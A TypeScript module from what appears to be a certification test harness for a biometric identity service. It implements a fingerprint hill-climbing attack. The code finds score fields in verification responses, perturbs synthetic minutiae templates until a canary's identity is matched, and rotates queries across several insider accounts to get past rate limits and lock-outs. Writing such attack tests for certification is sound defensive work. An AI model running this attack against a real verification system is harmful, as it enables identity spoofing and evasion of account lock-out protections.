import { encodeIsoTemplate } from '../../sim/matcher/iso19794-2.ts';
import type { FingerTemplate } from '../../sim/matcher/template.ts';
import type { Random } from '../../sim/random/index.ts';
import type { Role } from '../../sim/reference/types.ts';
import type { CertificationTarget } from '../targets/certification-target.ts';
import type { ReferenceApiClient } from '../targets/reference-api-client.ts';
import type { AttackOutcome } from './attack.ts';
import { rawClient } from './canary-campaign.ts';
import {
  type ClimbResult,
  hillClimb,
  hillClimbingEvidence,
  type OracleAnswer,
  perturbMinutiae,
  randomTemplate,
} from './hill-climbing.ts';

/** Roles that may verify: an insider with several accounts spreads the queries over all of them. */
const VERIFYING_ROLES: readonly Role[] = ['border-officer', 'psc-operator', 'consulate-officer', 'certifier'];
/** Random probes sent to find the response fields that vary with the probe. */
const DISCOVERY_PROBES = 4;
/** The finger climbed on: every canary has it. */
const POSITION = 1;

/** Every number in a JSON body, by path (`score`, `details.similarity`, `candidates.0.rank`). */
export function numericLeaves(body: unknown, path = ''): Map<string, number> {
  const out = new Map<string, number>();
  if (typeof body === 'number' && Number.isFinite(body)) out.set(path || '(body)', body);
  else if (body && typeof body === 'object')
    for (const [k, v] of Object.entries(body as Record<string, unknown>))
      for (const [p, x] of numericLeaves(v, path ? `${path}.${k}` : k)) out.set(p, x);
  return out;
}

/** Fields that take different values for different probes: a score, whatever it is called. */
export function varyingFields(bodies: readonly unknown[]): string[] {
  const seen = new Map<string, Set<number>>();
  for (const b of bodies)
    for (const [p, v] of numericLeaves(b)) seen.set(p, (seen.get(p) ?? new Set()).add(v));
  return [...seen].filter(([, vs]) => vs.size > 1).map(([p]) => p);
}

function parse(raw: string): unknown {
  try {
    return JSON.parse(raw);
  } catch {
    return null;
  }
}

function probe(t: FingerTemplate) {
  return [
    {
      position: POSITION,
      format: 'iso19794-2' as const,
      data: Buffer.from(encodeIsoTemplate(t)).toString('base64'),
    },
  ];
}

/** Verification as an oracle, over every verifying account in turn while one is rate limited. */
function verificationOracle(clients: ReferenceApiClient[], iin: string, field: string | null) {
  let next = 0;
  return async (t: FingerTemplate): Promise<OracleAnswer> => {
    for (let tries = 0; tries < clients.length; tries++) {
      const c = clients[next];
      next = (next + 1) % clients.length;
      const res = await c.verify({ iin, fingerprints: probe(t) });
      if (res.status === 429 || res.status === 423) continue;
      const body = parse(res.raw) as { decision?: string } | null;
      const score = field ? numericLeaves(body).get(field) : undefined;
      return { accepted: body?.decision === 'match', ...(score === undefined ? {} : { score }) };
    }
    return { accepted: false, stopped: `every verifying account was refused (rate limit or lock-out)` };
  };
}

export interface HillClimbingPlan {
  /** IINs of enrolled canaries to climb towards. */
  targets: readonly string[];
  /** Image size and resolution of the target's sensor, from the standard (what an attacker knows). */
  like: { width: number; height: number; ppi: number };
  budget: number;
  random: Random;
}

/**
 * DEP-SCO-01: first looks for numbers in verification answers (a score by any name; those that vary
 * with the probe first); with none, the attack has no gradient and every target counts as not reached. With one, it climbs
 * (Uludag & Jain 2004) from a random template towards each target until accepted or out of budget,
 * the queries spread over every account that may verify.
 */
export async function runHillClimbing(
  target: CertificationTarget,
  plan: HillClimbingPlan,
): Promise<{ evidence: ReturnType<typeof hillClimbingEvidence>['evidence']; outcome: AttackOutcome }> {
  const clients = VERIFYING_ROLES.filter((r) => target.token(r) !== undefined).map((r) =>
    rawClient(target, r),
  );
  if (clients.length === 0) throw new Error('the target gives no token of a role that may verify');
  const bodies: unknown[] = [];
  for (let i = 0; i < DISCOVERY_PROBES; i++) {
    const res = await clients[0].verify({
      iin: plan.targets[0],
      fingerprints: probe(randomTemplate(plan.random, plan.like)),
    });
    bodies.push(parse(res.raw));
  }
  // A score may read the same for a few random probes (all zero): any number a verification answer
  // carries is a candidate, those that varied first.
  const constant = [...new Set(bodies.flatMap((b) => [...numericLeaves(b).keys()]))];
  const fields = [...new Set([...varyingFields(bodies), ...constant])];
  const field = fields[0] ?? null;
  const climbs: ClimbResult[] = [];
  for (const iin of plan.targets)
    climbs.push(
      field
        ? await hillClimb({
            initial: randomTemplate(plan.random, plan.like),
            perturb: perturbMinutiae,
            oracle: verificationOracle(clients, iin, field),
            budget: plan.budget,
            random: plan.random,
          })
        : {
            applicable: false,
            accepted: false,
            attempts: DISCOVERY_PROBES,
            bestScore: null,
            reason: 'the responses carry decisions only',
          },
    );
  const r = hillClimbingEvidence(climbs, plan.budget);
  const details = {
    ...(r.evidence.details as object),
    scoreFields: fields,
    reasons: climbs.map((c) => c.reason),
    accounts: clients.length,
  };
  return { evidence: { ...r.evidence, details }, outcome: r.outcome };
}
